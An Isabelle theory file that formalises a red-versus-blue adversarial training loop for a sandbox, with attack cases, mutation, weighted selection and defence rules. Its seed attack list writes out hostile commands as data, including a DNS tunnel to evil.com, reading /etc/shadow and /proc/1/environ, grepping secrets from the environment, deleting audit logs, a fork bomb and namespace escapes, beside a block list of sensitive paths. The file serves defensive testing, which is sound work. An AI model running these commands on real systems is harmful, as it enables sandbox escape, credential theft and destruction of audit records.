(* ===== verification/Adversary_Agents.thy ===== *)
theory Adversary_Agents
  imports Evolution_Bridge
begin

text \<open>
  The two sides of the adversary training (\<open>evolution/red_blue_adversary.py\<close>): the red agent with its attack cases
  and strategy weights, the blue agent with its defence rules (\<open>defense_rule\<close> of \<open>Config_Enforcer\<close>). Cases and rules
  are objects that rounds and results refer to: a reference is a position in the agent's list, which only grows.
  Random draws are arguments, as is the text of a drawn number and the order of a set.
\<close>

subsection \<open>Attack cases\<close>

fun attack_value :: "attack_type \<Rightarrow> string" where
  "attack_value NAMESPACE_ESCAPE = ''namespace_escape''"
| "attack_value SECCOMP_BYPASS = ''seccomp_bypass''"
| "attack_value PRIVILEGE_ESCALATION = ''privilege_escalation''"
| "attack_value NETWORK_TUNNEL = ''network_tunnel''"
| "attack_value FILE_TRAVERSAL = ''file_traversal''"
| "attack_value PROCESS_INJECTION = ''process_injection''"
| "attack_value CONFIG_TAMPERING = ''config_tampering''"
| "attack_value AUDIT_BYPASS = ''audit_bypass''"
| "attack_value DOS_ATTACK = ''dos_attack''"
| "attack_value CREDENTIAL_THEFT = ''credential_theft''"

definition attack_types :: "attack_type list" where
  "attack_types = [NAMESPACE_ESCAPE, SECCOMP_BYPASS, PRIVILEGE_ESCALATION, NETWORK_TUNNEL, FILE_TRAVERSAL, PROCESS_INJECTION,
     CONFIG_TAMPERING, AUDIT_BYPASS, DOS_ATTACK, CREDENTIAL_THEFT]"

record attack_case =
  ak_case_id :: string
  ak_attack_type :: attack_type
  ak_description :: string
  ak_payload :: string
  ak_target :: string
  ak_difficulty :: rat
  ak_successes :: int
  ak_failures :: int
  ak_created_at :: time
  ak_last_used :: time

definition new_case :: "time \<Rightarrow> string \<Rightarrow> attack_type \<Rightarrow> string \<Rightarrow> string \<Rightarrow> string \<Rightarrow> rat \<Rightarrow> attack_case" where
  "new_case now cid ty desc payload target diff =
     \<lparr>ak_case_id = cid, ak_attack_type = ty, ak_description = desc, ak_payload = payload, ak_target = target, ak_difficulty = diff,
      ak_successes = 0, ak_failures = 0, ak_created_at = now, ak_last_used = 0\<rparr>"

definition case_success_rate :: "attack_case \<Rightarrow> rat" where
  "case_success_rate c = (if ak_successes c + ak_failures c = 0 then 0 else of_int (ak_successes c) / of_int (ak_successes c + ak_failures c))"

definition case_record_result :: "time \<Rightarrow> bool \<Rightarrow> attack_case \<Rightarrow> attack_case" where
  "case_record_result now ok c =
     c\<lparr>ak_successes := ak_successes c + (if ok then 1 else 0), ak_failures := ak_failures c + (if ok then 0 else 1), ak_last_used := now\<rparr>"

subsection \<open>Defence rules\<close>

definition new_rule :: "time \<Rightarrow> string \<Rightarrow> defense_type \<Rightarrow> string \<Rightarrow> attack_type list \<Rightarrow> string \<Rightarrow> rat \<Rightarrow> defense_rule" where
  "new_rule now rid ty desc targets logic eff =
     \<lparr>dr_rule_id = rid, dr_defense_type = ty, dr_description = desc, dr_target_attack_types = targets, dr_detection_logic = logic,
      dr_effectiveness = eff, dr_trigger_count = 0, dr_false_positive_count = 0, dr_created_at = now, dr_last_triggered = 0\<rparr>"

definition rule_precision :: "defense_rule \<Rightarrow> rat" where
  "rule_precision r = (if dr_trigger_count r = 0 then 1 else 1 - of_int (dr_false_positive_count r) / of_int (dr_trigger_count r))"

definition rule_record_trigger :: "time \<Rightarrow> bool \<Rightarrow> defense_rule \<Rightarrow> defense_rule" where
  "rule_record_trigger now tp r =
     r\<lparr>dr_trigger_count := dr_trigger_count r + 1, dr_false_positive_count := dr_false_positive_count r + (if tp then 0 else 1),
       dr_last_triggered := now\<rparr>"

subsection \<open>The red agent\<close>

record attack_entry =
  ah_case_id :: string
  ah_attack_type :: attack_type
  ah_success :: bool
  ah_timestamp :: time

record red_agent =
  ra_agent_id :: string
  ra_cases :: "attack_case list"
  ra_history :: "attack_entry list"
  ra_weights :: "(attack_type, rat) dict"

definition base_cases :: "(string \<times> attack_type \<times> string \<times> string \<times> string \<times> rat) list" where
  "base_cases =
     [(''NS_001'', NAMESPACE_ESCAPE, ''mount namespace escape'', ''mount --bind / /tmp/escape'', ''namespace'', 7 / 10),
      (''NS_002'', NAMESPACE_ESCAPE, ''pid namespace escape'', ''nsenter -t 1 -m -u -i -n'', ''namespace'', 8 / 10),
      (''SC_001'', SECCOMP_BYPASS, ''bypass of seccomp rules'', ''syscall(SYS_socketcall, ...)'', ''seccomp'', 6 / 10),
      (''SC_002'', SECCOMP_BYPASS, ''bypass by ptrace injection'', ''ptrace(PTRACE_POKETEXT, ...)'', ''seccomp'', 7 / 10),
      (''PE_001'', PRIVILEGE_ESCALATION, ''escalation by capabilities'', ''capsh --add=cap_sys_admin'', ''capabilities'', 5 / 10),
      (''PE_002'', PRIVILEGE_ESCALATION, ''escalation by suid binaries'', ''find / -perm -4000 -exec {} '' @ [CHR 0x5C, CHR '';''], ''filesystem'', 6 / 10),
      (''NT_001'', NETWORK_TUNNEL, ''DNS tunnel'', ''dig @evil.com TXT secret.example.com'', ''network'', 4 / 10),
      (''NT_002'', NETWORK_TUNNEL, ''scan of the internal network'', ''nmap -sS 10.0.0.0/8'', ''network'', 3 / 10),
      (''FT_001'', FILE_TRAVERSAL, ''path traversal'', ''cat ../../../../etc/shadow'', ''filesystem'', 5 / 10),
      (''FT_002'', FILE_TRAVERSAL, ''leak through procfs'', ''cat /proc/1/environ'', ''filesystem'', 4 / 10),
      (''PI_001'', PROCESS_INJECTION, ''injection into process memory'', ''gdb -p 1 -ex '' @ CHR 0x27 # ''set $rip=0x...'' @ [CHR 0x27], ''process'', 8 / 10),
      (''CT_001'', CONFIG_TAMPERING, ''tampering with the cgroup'', ''echo 0 > /sys/fs/cgroup/memory.max'', ''cgroup'', 6 / 10),
      (''AB_001'', AUDIT_BYPASS, ''deletion of the audit log'', ''rm -rf /var/log/audit/*'', ''audit'', 5 / 10),
      (''DA_001'', DOS_ATTACK, ''fork bomb'', '':(){ :|:& };:'', ''resource'', 3 / 10),
      (''DA_002'', DOS_ATTACK, ''memory bomb'', ''while true; do malloc(1024*1024); done'', ''resource'', 4 / 10),
      (''CR_001'', CREDENTIAL_THEFT, ''keys from the environment'', ''env | grep -i secret'', ''credential'', 4 / 10)]"

definition init_red :: "time \<Rightarrow> string \<Rightarrow> red_agent" where
  "init_red now aid =
     \<lparr>ra_agent_id = aid, ra_cases = map (\<lambda>(cid, ty, desc, payload, target, diff). new_case now cid ty desc payload target diff) base_cases,
      ra_history = [], ra_weights = map (\<lambda>t. (t, 1 / of_nat (length attack_types))) attack_types\<rparr>"

definition case_weight :: "time \<Rightarrow> attack_case \<Rightarrow> rat" where
  "case_weight now c =
     (case_success_rate c * (6 / 10) + 2 / 10) * (ak_difficulty c * (5 / 10) + 5 / 10) +
     (if ak_last_used c > 0 then min ((now - ak_last_used c) / 3600) 1 * (3 / 10) else 0)"

text \<open>\<open>bisect.bisect_right\<close> between two positions, as \<open>random.choices\<close> uses it on the running sums.\<close>

function bisect :: "rat list \<Rightarrow> rat \<Rightarrow> nat \<Rightarrow> nat \<Rightarrow> nat" where
  "bisect xs x lo hi =
     (if lo < hi then (let mid = (lo + hi) div 2 in if x < xs ! mid then bisect xs x lo mid else bisect xs x (mid + 1) hi) else lo)"
  by pat_completeness auto
termination by (relation "measure (\<lambda>(xs, x, lo, hi). hi - lo)") auto

declare bisect.simps [simp del]

fun running_sums :: "rat \<Rightarrow> rat list \<Rightarrow> rat list" where
  "running_sums c [] = []"
| "running_sums c (w # ws) = (c + w) # running_sums (c + w) ws"

definition weighted_choice :: "rat \<Rightarrow> rat list \<Rightarrow> nat" where
  "weighted_choice u ws = bisect (running_sums 0 ws) (draw u * sum_list ws) 0 (length ws - 1)"

text \<open>The position of the selected case.\<close>

definition select_attack_case :: "time \<Rightarrow> rat \<Rightarrow> nat \<Rightarrow> red_agent \<Rightarrow> exc + nat" where
  "select_attack_case now u k ra =
     (if ra_cases ra = [] then Inl ValueError
      else (let ws = map (case_weight now) (ra_cases ra); total = sum_list ws
            in if total = 0 then Inr (k mod length (ra_cases ra)) else Inr (weighted_choice u (map (\<lambda>w. w / total) ws))))"

record mutation_choice =
  mu_kind :: nat
  mu_other :: nat
  mu_delay :: string
  mu_digit :: nat
  mu_shift :: rat

definition mutated_text :: "mutation_choice \<Rightarrow> attack_case \<Rightarrow> string \<times> string" where
  "mutated_text m c =
     (case mu_kind m mod 4 of
        0 \<Rightarrow> (ak_payload c @ '' && sleep 0.1'', ak_description c @ '' (delayed)'')
      | Suc 0 \<Rightarrow> (let other = attack_value (pick_at (mu_other m) (filter (\<lambda>t. t \<noteq> ak_attack_type c) attack_types))
             in (ak_payload c @ '' # combined with '' @ other, ak_description c @ '' + '' @ other))
      | Suc (Suc 0) \<Rightarrow> (''sleep '' @ mu_delay m @ '' && '' @ ak_payload c, ak_description c @ '' (timing)'')
      | _ \<Rightarrow> (concat (map (\<lambda>ch. if ch = CHR ''0'' then dec_nat (mu_digit m mod 9 + 1) else [ch]) (ak_payload c)),
             ak_description c @ '' (randomised)''))"

definition mutate_attack_case :: "time \<Rightarrow> mutation_choice \<Rightarrow> nat \<Rightarrow> red_agent \<Rightarrow> red_agent \<times> nat" where
  "mutate_attack_case now m i ra =
     (let c = ra_cases ra ! i; (payload, desc) = mutated_text m c;
          c' = new_case now (ak_case_id c @ ''_M'' @ dec_int (py_int now)) (ak_attack_type c) desc payload (ak_target c)
                 (min (ak_difficulty c + uniform (- 1 / 10) (1 / 10) (mu_shift m)) 1)
      in (ra\<lparr>ra_cases := ra_cases ra @ [c']\<rparr>, length (ra_cases ra)))"

definition scale_weight :: "attack_type \<Rightarrow> rat \<Rightarrow> (attack_type, rat) dict \<Rightarrow> (attack_type, rat) dict" where
  "scale_weight ty f ws = map (\<lambda>(k, w). (k, if k = ty then w * f else w)) ws"

definition divide_weights :: "(attack_type, rat) dict \<Rightarrow> (attack_type, rat) dict" where
  "divide_weights ws = map (\<lambda>(k, w). (k, w / sum_list (vals ws))) ws"

definition record_attack_result :: "time \<Rightarrow> nat \<Rightarrow> bool \<Rightarrow> red_agent \<Rightarrow> red_agent" where
  "record_attack_result now i ok ra =
     (let c = case_record_result now ok (ra_cases ra ! i);
          ws = scale_weight (ak_attack_type c) (if ok then 11 / 10 else 9 / 10) (ra_weights ra)
      in ra\<lparr>ra_cases := (ra_cases ra)[i := c],
            ra_history := ra_history ra @ [\<lparr>ah_case_id = ak_case_id c, ah_attack_type = ak_attack_type c, ah_success = ok, ah_timestamp = now\<rparr>],
            ra_weights := (if sum_list (vals ws) > 0 then divide_weights ws else ws)\<rparr>)"

record red_statistics =
  rs_agent_id :: string
  rs_cases :: nat
  rs_attacks :: nat
  rs_successful :: int
  rs_success_rate :: rat
  rs_weights :: "(string \<times> rat) list"

definition red_get_statistics :: "red_agent \<Rightarrow> red_statistics" where
  "red_get_statistics ra =
     (let n = length (ra_history ra); k = count ah_success (ra_history ra)
      in \<lparr>rs_agent_id = ra_agent_id ra, rs_cases = length (ra_cases ra), rs_attacks = n, rs_successful = k,
          rs_success_rate = (if n > 0 then of_int k / of_nat n else 0), rs_weights = map (\<lambda>(t, w). (attack_value t, w)) (ra_weights ra)\<rparr>)"

subsection \<open>The blue agent\<close>

record defense_entry =
  dh_rules :: "string list"
  dh_attack_success :: bool
  dh_timestamp :: time

record blue_agent =
  ba_agent_id :: string
  ba_rules :: "defense_rule list"
  ba_history :: "defense_entry list"

definition base_rules :: "(string \<times> defense_type \<times> string \<times> attack_type list \<times> string \<times> rat) list" where
  "base_rules =
     [(''DR_001'', SYSTEM_CALL_MONITOR, ''watch dangerous system calls'', [SECCOMP_BYPASS, PRIVILEGE_ESCALATION],
        ''ptrace, kexec_load, init_module, finit_module'', 7 / 10),
      (''DR_002'', NETWORK_FILTER, ''black list of internal addresses'', [NETWORK_TUNNEL],
        ''10.0.0.0/8, 172.16.0.0/12, 192.168.0.0/16, 169.254.0.0/16'', 8 / 10),
      (''DR_003'', FILE_ACCESS_CONTROL, ''access to sensitive paths'', [FILE_TRAVERSAL, CREDENTIAL_THEFT],
        ''/etc/shadow, /etc/sudoers, /proc/1/environ, ~/.ssh'', 75 / 100),
      (''DR_004'', PROCESS_ISOLATION, ''isolation by namespaces'', [NAMESPACE_ESCAPE, PROCESS_INJECTION],
        ''CLONE_NEWNS, CLONE_NEWPID, CLONE_NEWNET, CLONE_NEWUSER'', 65 / 100),
      (''DR_005'', AUDIT_LOGGING, ''integrity of the audit log'', [AUDIT_BYPASS],
        ''HMAC chain, WORM storage, detection of deletion'', 8 / 10),
      (''DR_006'', RESOURCE_LIMIT, ''limits of resources'', [DOS_ATTACK],
        ''CPU.max, memory.max, pids.max, io.max'', 9 / 10),
      (''DR_007'', CAPABILITY_DROP, ''dropping capabilities'', [PRIVILEGE_ESCALATION, CONFIG_TAMPERING],
        ''CAP_SYS_ADMIN, CAP_NET_ADMIN, CAP_SYS_PTRACE'', 7 / 10),
      (''DR_008'', INTEGRITY_CHECK, ''integrity of the configuration'', [CONFIG_TAMPERING, AUDIT_BYPASS],
        ''hashes of cgroup, seccomp and audit configuration'', 6 / 10)]"

definition init_blue :: "time \<Rightarrow> string \<Rightarrow> blue_agent" where
  "init_blue now aid =
     \<lparr>ba_agent_id = aid, ba_rules = map (\<lambda>(rid, ty, desc, targets, logic, eff). new_rule now rid ty desc targets logic eff) base_rules, ba_history = []\<rparr>"

text \<open>The positions of the rules that see an attack; each rule for its type has a draw.\<close>

definition detect_attack :: "(nat \<Rightarrow> rat) \<Rightarrow> attack_case \<Rightarrow> blue_agent \<Rightarrow> nat list" where
  "detect_attack us c ba =
     filter (\<lambda>i. (let r = ba_rules ba ! i
        in ak_attack_type c \<in> set (dr_target_attack_types r) \<and> draw (us i) < dr_effectiveness r * (1 - ak_difficulty c * (3 / 10)))) [0..<length (ba_rules ba)]"

definition adjust_effectiveness :: "time \<Rightarrow> bool \<Rightarrow> bool \<Rightarrow> defense_rule \<Rightarrow> defense_rule" where
  "adjust_effectiveness now attack_success tp r0 =
     (let r = rule_record_trigger now tp r0
      in if attack_success then r\<lparr>dr_effectiveness := max (1 / 10) (dr_effectiveness r - 2 / 100)\<rparr>
         else r\<lparr>dr_effectiveness := min 1 (dr_effectiveness r + 1 / 100)\<rparr>)"

definition record_defense_result :: "time \<Rightarrow> nat list \<Rightarrow> bool \<Rightarrow> bool \<Rightarrow> blue_agent \<Rightarrow> blue_agent" where
  "record_defense_result now is attack_success tp ba =
     (let rs = fold (\<lambda>i rs. rs[i := adjust_effectiveness now attack_success tp (rs ! i)]) is (ba_rules ba)
      in ba\<lparr>ba_rules := rs,
            ba_history := ba_history ba @ [\<lparr>dh_rules = map (\<lambda>i. dr_rule_id (rs ! i)) is, dh_attack_success = attack_success, dh_timestamp = now\<rparr>]\<rparr>)"

record evolution_choice =
  ev_kind :: nat
  ev_pick :: nat
  ev_gain :: rat
  ev_order :: "attack_type list \<Rightarrow> attack_type list"

text \<open>What the new rule takes from the old one: its targets, description and effectiveness.\<close>

definition evolved_parts :: "evolution_choice \<Rightarrow> defense_rule \<Rightarrow> blue_agent \<Rightarrow> exc + attack_type list \<times> string \<times> rat" where
  "evolved_parts e r ba =
     (case ev_kind e mod 4 of
        0 \<Rightarrow> (let others = filter (\<lambda>t. t \<notin> set (dr_target_attack_types r)) attack_types
             in if others = [] then Inl IndexError
                else Inr (dr_target_attack_types r @ [pick_at (ev_pick e) others], dr_description r @ '' (wider coverage)'', dr_effectiveness r * (9 / 10)))
      | Suc 0 \<Rightarrow> Inr (dr_target_attack_types r, dr_description r @ '' (tuned)'', min 1 (dr_effectiveness r + uniform (5 / 100) (15 / 100) (ev_gain e)))
      | Suc (Suc 0) \<Rightarrow> (let others = filter (\<lambda>q. dr_rule_id q \<noteq> dr_rule_id r) (ba_rules ba)
             in if others = [] then Inl IndexError
                else (let q = pick_at (ev_pick e) others
                      in Inr (ev_order e (dr_target_attack_types r @ dr_target_attack_types q), dr_description r @ '' + '' @ dr_description q,
                              (dr_effectiveness r + dr_effectiveness q) / 2)))
      | _ \<Rightarrow> Inr (dr_target_attack_types r, dr_description r @ '' (heuristic)'', min 1 (dr_effectiveness r + 1 / 10)))"

definition evolve_defense_rule :: "time \<Rightarrow> evolution_choice \<Rightarrow> defense_rule \<Rightarrow> blue_agent \<Rightarrow> exc + blue_agent" where
  "evolve_defense_rule now e r ba =
     ebind (evolved_parts e r ba) (\<lambda>(targets, desc, eff).
       Inr (ba\<lparr>ba_rules := ba_rules ba @ [new_rule now (dr_rule_id r @ ''_E'' @ dec_int (py_int now)) (dr_defense_type r) desc targets
                                            (dr_detection_logic r @ '' (evolved)'') eff]\<rparr>))"

record blue_statistics =
  bl_agent_id :: string
  bl_rules :: nat
  bl_defenses :: nat
  bl_successful :: int
  bl_defense_rate :: rat
  bl_average_precision :: rat
  bl_effectiveness :: "(string, rat) dict"

definition blue_get_statistics :: "blue_agent \<Rightarrow> blue_statistics" where
  "blue_get_statistics ba =
     (let n = length (ba_history ba); k = count (\<lambda>h. \<not> dh_attack_success h) (ba_history ba)
      in \<lparr>bl_agent_id = ba_agent_id ba, bl_rules = length (ba_rules ba), bl_defenses = n, bl_successful = k,
          bl_defense_rate = (if n > 0 then of_int k / of_nat n else 0),
          bl_average_precision = (if ba_rules ba = [] then 0 else sum_list (map rule_precision (ba_rules ba)) / of_nat (length (ba_rules ba))),
          bl_effectiveness = fold (\<lambda>r d. dset (dr_rule_id r) (dr_effectiveness r) d) (ba_rules ba) []\<rparr>)"

end
